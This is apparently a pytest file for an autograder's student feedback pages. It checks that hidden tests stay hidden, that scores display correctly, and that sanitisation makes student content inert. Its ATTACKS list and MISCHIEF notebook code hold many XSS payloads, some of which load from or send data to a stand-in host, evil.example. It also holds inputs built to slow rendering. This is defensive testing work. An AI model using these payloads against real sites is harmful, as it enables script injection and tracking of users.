"""The pages that students get: their scores, no hidden test, nothing that a browser executes."""

import html
import re
import subprocess
import sys
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from click.testing import CliRunner
from nbformat.v4 import new_output

from autograder import course_folder
from autograder.building import release
from autograder.cli import main
from autograder.grading import result_file
from autograder.grading.result_file import Kept
from autograder.grading.results import ExerciseResult, FailedCheck, Status, SubmissionResult
from autograder.pages import status_words
from autograder.pages.feedback_page import FeedbackExporter, Summary
from autograder.pages.harmless_outputs import (
    HarmlessOutputs,
    harmless_html,
    markdown2html,
    plain_text,
)
from autograder.pages.hide_hidden_tests import HideHiddenTests
from tests import tiny_course
from tests.browser.lab import browser_page
from tests.tiny_course import LESSON, NAME, cell_of, submission

pytestmark = [
    pytest.mark.usefixtures("quick_start"),
    pytest.mark.xdist_group("feedback"),
    pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning"),
]

MISCHIEF = """
import base64
from IPython.display import HTML, Javascript, Markdown, SVG, display
evil = "<script>alert('evil')</script>"
print(evil)
display(HTML(evil), Javascript("alert('evil')"), Markdown(evil), SVG(f"<svg>{evil}</svg>"))
display({"image/png": f'x">{evil}<img src="', "text/plain": "a picture"}, raw=True)
"""
QUOTING = "print(In)\nprint(repr(In))"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course of three submissions: one fails hidden tests, one is nasty, one no notebook."""
    course = tiny_course.make_course(tmp_path_factory.mktemp("course"))
    released = release.release_notebook(course / "source" / LESSON / NAME)
    tiny_course.submit(course, "ada", submission(released, double="    return int(2 * a)"))
    nasty = submission(released, double="    return undefined_name")
    nasty.cells[0].source += "\n\n<script>alert('evil')</script> <img src=x onerror=\"evil()\">"
    nasty.cells[1].source += MISCHIEF
    nasty.cells.append(nbformat.v4.new_code_cell(QUOTING))
    nasty.metadata["title"] = "<script>alert('evil')</script>"
    tiny_course.submit(course, "nasty", nasty)
    tiny_course.submit(course, "garbled", "{ this is not JSON")
    answer = CliRunner().invoke(main, ["grade", LESSON, "--jobs", "1", "--course", str(course)])
    assert answer.exit_code == 1, answer.output  # one could not be graded
    return course


def pages(course):
    return {
        student: (course / "feedback" / student / LESSON / "sums.html").read_text()
        for student in ("ada", "nasty", "garbled")
    }


@pytest.fixture(scope="module", params=["autograder", "nbgrader"])
def written(course, request):
    """The pages as either command writes them."""
    tiny_course.empty(course / "feedback")
    if request.param == "autograder":
        answer = CliRunner().invoke(main, ["feedback", LESSON, "--course", str(course)])
        assert answer.exit_code == 0, answer.output
        assert str(course / "feedback" / "ada" / LESSON / "sums.html") in answer.output
    else:
        command = [Path(sys.executable).parent / "nbgrader", "generate_feedback", LESSON]
        answer = subprocess.run(command, cwd=course, capture_output=True, text=True)
        assert answer.returncode == 0, answer.stderr
    return pages(course)


class Tags(HTMLParser):
    """The names of a page's tags, and its attributes."""

    def __init__(self, text):
        super().__init__()
        self.names, self.attributes = set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.names.add(tag)
        self.attributes |= {(name, value or "") for name, value in attributes}


def words_of(page):
    """What a reader sees, word by word."""
    return " ".join(
        html.unescape(re.sub("<style>.*?</style>|<[^>]*>", " ", page, flags=re.S)).split()
    )


def text_of(page):
    """What a reader sees of the page, and also what stands in its tags."""
    return html.unescape(re.sub(r"</?span[^>]*>", "", page))


@pytest.mark.slow
def test_hidden_tests_are_not_in_the_pages(written):
    for student, page in written.items():
        assert (student == "garbled") != ("assert add(1, 2) == 3" in text_of(page))  # it is visible
        for hidden in ("HIDDEN TESTS", "-7, 0.5", "0.25"):
            assert hidden not in text_of(page)


def test_marks_and_messages_are_in_the_pages(written):
    assert "2 of 5 points" in words_of(written["ada"])
    assert "1 of 2 exercises solved" in words_of(written["ada"])
    assert "add ✓ solved 2 of 2" in words_of(written["ada"])
    # The message of the test that failed.
    assert "double ✗ not right yet 0 of 3 secret_of_double" in words_of(written["ada"])
    assert "undefined_name" in written["nasty"]


def test_what_is_no_notebook_is_told_once(written):
    """And the blank notebook is not called the student's."""
    page = words_of(written["garbled"])
    assert page.count("The file is damaged") == 1
    assert "add ! could not be graded 0 of 2 double ! could not be graded 0 of 3" in page
    assert "Your notebook" not in page
    assert 'href="#' not in written["garbled"]


def test_the_page_runs_nothing_and_loads_nothing(written):
    for page in written.values():
        tags = Tags(page)
        assert not tags.names & {"script", "link", "iframe", "object", "embed", "form", "base"}
        assert not [name for name, _ in tags.attributes if name.startswith("on")]
        loaded = [value for name, value in tags.attributes if name in ("src", "srcset", "data")]
        assert all(re.match("data:image/(png|jpeg|gif);base64,", value) for value in loaded)
        assert "url(" not in "".join(re.findall("<style>.*?</style>", page, flags=re.S))
        policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
        assert ("content", policy) in tags.attributes


def test_links_of_the_summary_lead_to_the_answers(written):
    tags = Tags(written["ada"])
    targets = {value for name, value in tags.attributes if name == "id"}
    links = {value for name, value in tags.attributes if name == "href" and value[0] == "#"}
    assert {"#answer-add", "#answer-double", "#top"} <= links
    assert {link[1:] for link in links} <= targets


def test_nothing_of_a_student_is_executed(written):
    page = written["nasty"]
    assert "print(evil)" in text_of(page)
    assert "&lt;script&gt;" in page  # printed by the student, shown as text
    assert not re.search(r"<[^>]*onerror", page)
    assert "<svg" not in page


def test_nothing_but_pages_is_handed_out(course, written):
    assert [path.name for path in (course / "feedback" / "ada" / LESSON).iterdir()] == ["sums.html"]


def test_without_graded_submissions_there_is_a_clear_error(tmp_path):
    course = tiny_course.make_course(tmp_path)
    answer = CliRunner().invoke(main, ["feedback", LESSON, "--course", str(course)])
    assert answer.exit_code == 1
    assert f"autograder grade {LESSON}" in answer.output


def test_without_the_graders_own_result_the_outputs_tell(tmp_path):
    """As of what an older nbgrader graded: points, and what the test cells showed."""
    notebook = tiny_course.source_notebook()
    for name, score, points in (("check_add", 0.0, 2.0), ("check_double", 3.0, 3.0)):
        cell_of(notebook, name).metadata.nbgrader |= {"score": score, "points": points}
    why = "assert add(-7, 0.5) == -6.5, 'not right for fractions'"
    cell_of(notebook, "check_add").outputs = [
        new_output("error", ename="AssertionError", evalue=why, traceback=[why])
    ]
    resources = {"metadata": {"path": str(tmp_path)}, "nbgrader": {"assignment": LESSON}}
    for filtered in (HideHiddenTests(), Summary()):
        notebook, resources = filtered.preprocess(notebook, resources)
    add, double = resources["page"]["rows"]
    assert (add["status"]["words"], add["place"]) == ("not right yet", "answer-add")
    assert "left out" in add["headline"]  # it quoted a hidden test
    assert double["status"]["words"] == "solved"
    assert resources["page"]["solved"] == 1


def test_a_changed_test_is_told_beside_the_message(tmp_path):
    notebook = tiny_course.source_notebook()
    for name in ("check_add", "check_double"):
        cell_of(notebook, name).metadata.nbgrader |= {"score": 0.0, "points": 2.0}
    failure = FailedCheck("must add", got="1", hint="add.")
    failed = ExerciseResult(0.0, 2.0, Status.FAILED, "must double")
    add = replace(failed, failure=failure, test_was_changed=True)
    exercises = {"add": add, "double": failed}
    result = SubmissionResult("ada", LESSON, Status.TAMPERED, exercises)
    result_file.write(tmp_path / "result.json", Kept(None, result))
    resources = {"metadata": {"path": str(tmp_path)}, "nbgrader": {"assignment": LESSON}}
    _, resources = Summary().preprocess(notebook, resources)
    add, double = resources["page"]["rows"]
    assert (add["headline"], add["example"], add["hint"]) == ("must add", "  got:      1", "add.")
    assert "had been changed" in add["note"]
    assert (double["headline"], double["note"]) == ("must double", "")


def test_exercises_are_in_the_lessons_order_wherever_a_cell_was_moved(tmp_path):
    notebook = tiny_course.source_notebook()
    notebook.cells.append(notebook.cells.pop(notebook.cells.index(cell_of(notebook, "check_add"))))
    for name in ("check_add", "check_double"):
        cell_of(notebook, name).metadata.nbgrader |= {"score": 0.0, "points": 2.0}
    failed = ExerciseResult(0.0, 2.0, Status.FAILED, "must")
    result = SubmissionResult("ada", LESSON, Status.FAILED, {"add": failed, "double": failed})
    result_file.write(tmp_path / "result.json", Kept(None, result))
    resources = {"metadata": {"path": str(tmp_path)}, "nbgrader": {"assignment": LESSON}}
    _, resources = Summary().preprocess(notebook, resources)
    assert [row["exercise"] for row in resources["page"]["rows"]] == ["add", "double"]


# The two filters by themselves --------------------------------------------------------------------


def hidden_from(*outputs):
    """These outputs of a test cell, as a student may see them."""
    notebook = tiny_course.source_notebook()
    cell_of(notebook, "check_add").outputs = list(outputs)
    notebook, _ = HideHiddenTests().preprocess(notebook, {})
    return cell_of(notebook, "check_add").outputs


def test_a_traceback_that_quotes_a_hidden_test_is_shortened():
    line = "assert \x1b[0madd(-7, \x1b[32m0.5) == -6.5, 'not right for fractions'"
    (output,) = hidden_from(new_output("error", ename="E", evalue="why", traceback=["a", line]))
    assert output.traceback == ["E: why"]


def test_a_traceback_that_quotes_none_stays():
    (output,) = hidden_from(new_output("error", ename="E", evalue="why", traceback=["a", "b"]))
    assert output.traceback == ["a", "b"]


def test_a_hidden_region_without_an_end_takes_the_rest():
    notebook = tiny_course.source_notebook()
    cell = cell_of(notebook, "check_add")
    cell.source = cell.source.replace("### END HIDDEN TESTS", "")
    HideHiddenTests().preprocess(notebook, {})
    assert cell.source == "assert add(1, 2) == 3, 'add(1, 2) must be 3'"


def test_pictures_stay_and_other_forms_go():
    notebook = tiny_course.source_notebook()
    notebook.cells[1].outputs = [
        new_output("display_data", {"image/png": "iVBORw0K\n", "image/svg+xml": "<svg/>"}),
        new_output("display_data", {"image/svg+xml": "<svg/>"}),
    ]
    HarmlessOutputs().preprocess(notebook, {})
    first, second = notebook.cells[1].outputs
    assert first.data == {"image/png": "iVBORw0K"}
    assert list(second.data) == ["text/plain"]


# In prose, in HTML outputs and in text: whatever it is, a browser shows it and does nothing.
ATTACKS = [
    "<script>evil()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<img src=x onerror=evil()>",
    "<img/src=`x`/onerror=evil()>",
    '<details open ontoggle="evil()"><summary>x</summary></details>',
    "<svg onload=evil()><animate onbegin=evil() attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,evil'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></table></mtext></math>",
    "<math href=javascript:evil()>x</math>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data='data:text/html,evil'></object><embed src='//evil.example'>",
    "<form action=//evil.example><input name=password autofocus onfocus=evil()></form>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'; .status { display: none }</style>",
    "<p style='position:fixed;background:url(//evil.example)'>covers the page</p>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
    "<!--><img src=x onerror=evil()>-->",
    "</pre></div></main><script>evil()</script>",
    "<a href='java\nscript:evil()'>x</a>",
    "<a href='data:text/html;base64,ZXZpbA=='>x</a>",
    "[x](javascript:evil%28%29)",
    "[x](vbscript:evil) ![y](javascript:evil)",
    "![seen](https://evil.example/seen.png)",
    "$\\href{javascript:evil()}{x}$",
    "$\\text{</math><script>evil()</script>}$",
    "$$\\unicode{x3c}img src=x onerror=evil()\\unicode{x3e}$$",
    "\\begin{aligned}<img src=x onerror=evil()>\\end{aligned}",
    "```mermaid\n</pre><script>evil()</script>\n```",
    "```html\n</div><script>evil()</script>\n```",
    "<p class='status good' id='top'>10 of 10 points</p>",
    "\x1b]8;;javascript:evil()\x07click\x1b]8;;\x07",
    "\x1b[31m</span><script>evil()</script>\x1b[0m",
]


def everywhere(attack):
    """A notebook with the attack in each place where a student can put it."""
    data = {"text/html": attack, "text/plain": attack, "text/markdown": attack}
    svg = {"image/svg+xml": attack, "text/latex": attack, "application/javascript": attack}
    cell = nbformat.v4.new_code_cell(attack)
    cell.outputs = [
        new_output("stream", text=attack),
        new_output("display_data", data),
        new_output("display_data", svg | {"text/plain": attack}),
        new_output("display_data", {"image/png": attack, "text/plain": attack}),
        new_output("execute_result", {"text/plain": attack}),
        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
    ]
    return [nbformat.v4.new_markdown_cell(attack), cell]


@pytest.fixture(scope="module")
def attacked_page(course):
    """A page as the exporter writes it, with all attacks on it."""
    notebook = nbformat.v4.new_notebook(
        cells=[cell for attack in ATTACKS for cell in everywhere(attack)]
    )
    config = course_folder.find(course).config()
    exporter = FeedbackExporter(config=config)
    row = {
        "exercise": ATTACKS[0],
        "status": status_words.status("failed")._asdict(),
        "comment": " ".join(ATTACKS),
        **dict.fromkeys(("headline", "example", "hint", "note", "place"), " ".join(ATTACKS)),
        **{"score": 0, "points": 1, "by_hand": False},
    }
    page = {"title": ATTACKS[0], "rows": [row], "comments": {}, "solved": 0, "style": ""}
    marks = {"student": ATTACKS[0], "assignment": LESSON, "notebook": "sums", "late_penalty": 0}
    resources = {
        "page": page | {"trouble": None},
        "nbgrader": marks | {"score": 0, "max_score": 1},
    }
    return exporter.from_notebook_node(notebook, resources)[0]


def test_no_attack_gets_onto_the_page_as_markup(attacked_page):
    tags = Tags(attacked_page)
    known = {"html", "head", "meta", "title", "style", "body", "header", "main"}
    forbidden = {"script", "svg", "iframe", "object", "embed", "form", "input", "base", "link"}
    forbidden |= {"mglyph", "noscript", "animate", "use"}
    assert known <= tags.names
    assert not tags.names & forbidden
    names = {name for name, _ in tags.attributes}
    assert not [name for name in names if name.startswith("on")]
    assert "srcdoc" not in names
    for name, value in tags.attributes:
        if name in ("href", "src"):
            assert re.match(r"#|data:image/png;base64,|$", value), (name, value)
        if name == "style":
            assert re.fullmatch(r"(width|color|background-color): [\w.%(), ]*;?", value), value
        if name == "http-equiv":
            assert value == "Content-Security-Policy"
    assert ("id", "top") in tags.attributes
    assert attacked_page.count('id="top"') == 1
    assert "\x1b" not in attacked_page.partition("as it was graded")[2]


@pytest.mark.slow
def test_no_attack_does_anything_in_a_browser(attacked_page, chromium, tmp_path):
    """Even without the policy that forbids scripts."""
    path = tmp_path / "attacked.html"
    path.write_text(attacked_page.replace("Content-Security-Policy", "x-off"), encoding="utf-8")
    with browser_page(chromium) as page:
        requests, said = [], []
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        page.add_init_script("window.evil = () => { window.wasEvil = true }")
        page.goto(path.as_uri())
        page.wait_for_timeout(300)
        assert not page.evaluate("window.wasEvil === true")
        assert [url for url in requests if not url.startswith("data:")] == [path.as_uri()]
        assert not said
        assert page.locator("math").count() >= 2


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("10%\r50%\r100%\n", "100%\n"),
        ("windows\r\nline", "windows\nline"),
        ("\x1b[1mbold\x1b[0m", "\x1b[1mbold\x1b[0m"),
        (
            "\x1b[38;5;253mwhite\x1b[39m \x1b[1;38;2;9;9;9mblack\x1b[0m",
            "white\x1b[39m black\x1b[0m",
        ),
        ("\x1b[2J\x1b[1;1Hgone\x07\x08", "gone"),
        ("\x1b]0;title\x07rest", "rest"),
        ("cut\x1b[39;4", "cut"),
        ("cut\x1b[", "cut"),
        ("cut\x1b", "cut"),
        ("\x1b[?25mhidden", "hidden"),
    ],
)
def test_text_is_what_a_terminal_shows_in_the_end(text, shown):
    assert plain_text(text) == shown


def test_long_outputs_lose_their_middle():
    text = plain_text("a" * 1_000_000 + "the end")
    assert len(text) < 21_000
    assert text.endswith("the end")
    assert "980,007 characters are left out here" in text


@pytest.mark.parametrize("shift", range(12))
def test_a_colour_is_not_cut_in_two(shift):
    text = plain_text("x" * shift + "\x1b[39;49mred" * 90, most=500)
    rest = re.sub(r"\x1b\[39;49m", "", text)
    assert re.fullmatch(r"[xred]+\n\[… \d+ characters are left out here …\]\n[red]+", rest)


@pytest.mark.parametrize(
    "text", ["> " * 9_000 + "x", "\\begin{a}" * 1_000, "[" * 15_000, "*a_" * 3_000, "x" * 10**6]
)
def test_prose_that_is_made_to_take_long_does_not(text):
    started = time.process_time()
    markdown2html(text)
    assert time.process_time() - started < 10


CODE_THAT_TAKES_LONG = "x\n" + " \n" * 49_000 + "<y>"


@pytest.mark.slow
def test_code_that_is_made_to_take_long_does_not():
    """Python's lexer looks at all blank lines that follow, at each of them."""
    notebook = nbformat.v4.new_notebook(metadata={"language_info": {"name": "python"}})
    notebook.cells = [nbformat.v4.new_code_cell(CODE_THAT_TAKES_LONG) for _ in range(5)]
    prose = f"```python\n{CODE_THAT_TAKES_LONG[-19_000:]}\n```"
    notebook.cells += [nbformat.v4.new_markdown_cell(prose) for _ in range(9)]
    started = time.process_time()
    text = _page_of(notebook)
    assert time.process_time() - started < 60, "hours, if all of it is coloured"
    assert text.count("&lt;y&gt;") == 14


def _page_of(notebook):
    """The page of a notebook without exercises."""
    page = {"language": "en", "style": "", "rows": [], "comments": {}, "notes": [], "refused": ""}
    grades = {"score": 0, "max_score": 0, "student": "ada", "late_penalty": 0}
    resources = {"nbgrader": grades, "page": page | {"title": "", "solved": 0, "trouble": None}}
    return FeedbackExporter().from_notebook_node(notebook, resources)[0]


def test_only_python_is_coloured_in_prose():
    assert '<span class="k">def</span>' in markdown2html("```python\ndef f(): pass\n```")
    assert markdown2html("```perl\nmy $a < 1\n```").strip() == "<pre>my $a &lt; 1\n</pre>"


@pytest.mark.parametrize(
    "text", ["<b>" * 10**6, "<b>" * 30_000, "<div>" * 5_000, "<style " * 14_000]
)
def test_html_that_is_made_to_take_long_does_not(text):
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("")])
    notebook.cells[0].outputs = [new_output("display_data", {"text/html": text})]
    started = time.process_time()
    HarmlessOutputs().preprocess(notebook, {})
    assert time.process_time() - started < 10


def test_of_many_outputs_that_are_made_to_take_long_some_are_shown():
    cells = [nbformat.v4.new_code_cell("") for _ in range(50)]
    for cell in cells:
        cell.outputs = [new_output("display_data", {"text/html": "<p>" + "x" * 90_000})]
    HarmlessOutputs().preprocess(nbformat.v4.new_notebook(cells=cells), {})
    assert sum("text/html" in cell.outputs[0].data for cell in cells) == 5


def test_small_elements_without_number_cost_little_time(monkeypatch):
    """Nothing parses the page again, and of many outputs only a little is shown."""
    monkeypatch.setattr("nbconvert.exporters.html.BeautifulSoup", None)
    monkeypatch.setattr("autograder.pages.harmless_outputs.MAX_OUTPUTS", 9_000)
    texts = ["\x1b[31mx" * 500] * 20
    outputs = [new_output("stream", text=text) for text in texts]
    outputs += [new_output("execute_result", {"text/plain": text}) for text in texts]
    cell = nbformat.v4.new_code_cell("", outputs=outputs)
    test = tiny_course.test_cell("check_add", "exam()", points=1)
    test.outputs = [new_output("error", ename="", evalue="", traceback=["y" * 5_000])]
    notebook, _ = HarmlessOutputs().preprocess(nbformat.v4.new_notebook(cells=[cell, test]), {})
    assert _page_of(notebook).count("x</span>") < 3_000
    assert test.outputs[0].traceback == ["y" * 5_000], "it says why an exercise failed"


def test_colours_that_are_made_to_take_long_do_not():
    assert plain_text("\x1b[" + "38;" * 10**6 + "!x") == "x"


def test_formulas_are_shown_without_a_script():
    shown = markdown2html("with $a < b$ and\n\n$$\\frac{\\sum_i x_i}{n}$$")
    assert "<mi>a</mi><mo>&lt;</mo><mi>b</mi>" in shown
    assert '<math display="block">' in shown
    assert "<mfrac>" in shown
    drawn = markdown2html("![by $a<b$](data:image/png;base64,AAAA)")
    assert drawn.count("<") == 3  # in an attribute, a formula is text
    assert markdown2html("$\\def\\a{x}\\a$") == "<p><code>\\def\\a{x}\\a</code></p>\n"


def test_every_formula_of_the_lessons_is_converted(root):
    formulas = 0
    for path in (root / "source").glob("*/*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type == "markdown":
                shown = markdown2html(cell.source)
                formulas += shown.count("<math")
                assert not re.search(r"\$\S|<code>[^<]*\\[a-z]", shown), (path, cell.source)
    assert formulas > 5


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ('<img src="data:image/png;base64,iVBORw0K" alt="a 7" width="60">', True),
        ("<table><tr><td>1</td></tr></table>", True),
        ("<style>p { color: red }</style>", ""),
        ("<b onclick='evil()'>x</b>", "<b>x</b>"),
        ('<img src="https://example.org/seen.png">', "<img>"),
        ('<img src="//example.org/seen.png">', "<img>"),
        ('<img src="seen.png">', "<img>"),
        ('<a href="seen.html">x</a>', "<a>x</a>"),
        ('<img src="data:image/svg+xml;base64,iVBORw0K">', "<img>"),
        ('<a href="data:text/html,evil">x</a>', "<a>x</a>"),
        ('<a href="da&#9;ta:text/html,evil">x</a>', "<a>x</a>"),
        ('<a href="&#1;d&#10;ata:text/html,evil">x</a>', "<a>x</a>"),
        ('<a href="ftp://example.org">x</a>', "<a>x</a>"),
        ('<a href="mailto:ada@example.org">x</a>', True),
        ('<iframe src="https://example.org"></iframe>', ""),
    ],
)
def test_html_outputs_are_cleaned(text, kept):
    cleaned = harmless_html(text)
    for added in ("<tbody>", "</tbody>", ' rel="noopener noreferrer"'):
        cleaned = cleaned.replace(added, "")
    assert cleaned == (text if kept is True else kept)


def test_a_picture_of_the_course_stays():
    from matplotlib.figure import Figure

    from course.pictures.picture import Picture

    data = Picture.from_figure(Figure(figsize=(1, 1)), "an empty square")._repr_mimebundle_()
    assert harmless_html(data["text/html"]).startswith(data["text/html"].split(" class=")[0])


def test_markdown_keeps_what_prose_needs():
    shown = markdown2html(
        "# Title\n\n`a < b` and $x < y$\n\n<details><summary>Hint</summary>yes</details>\n\n"
        "[bad](javascript:evil())\n"
    )
    assert "<h1>Title</h1>" in shown
    assert "<details><summary>Hint</summary>" in shown
    assert "javascript:" not in re.sub(r">[^<]*<", "><", shown)
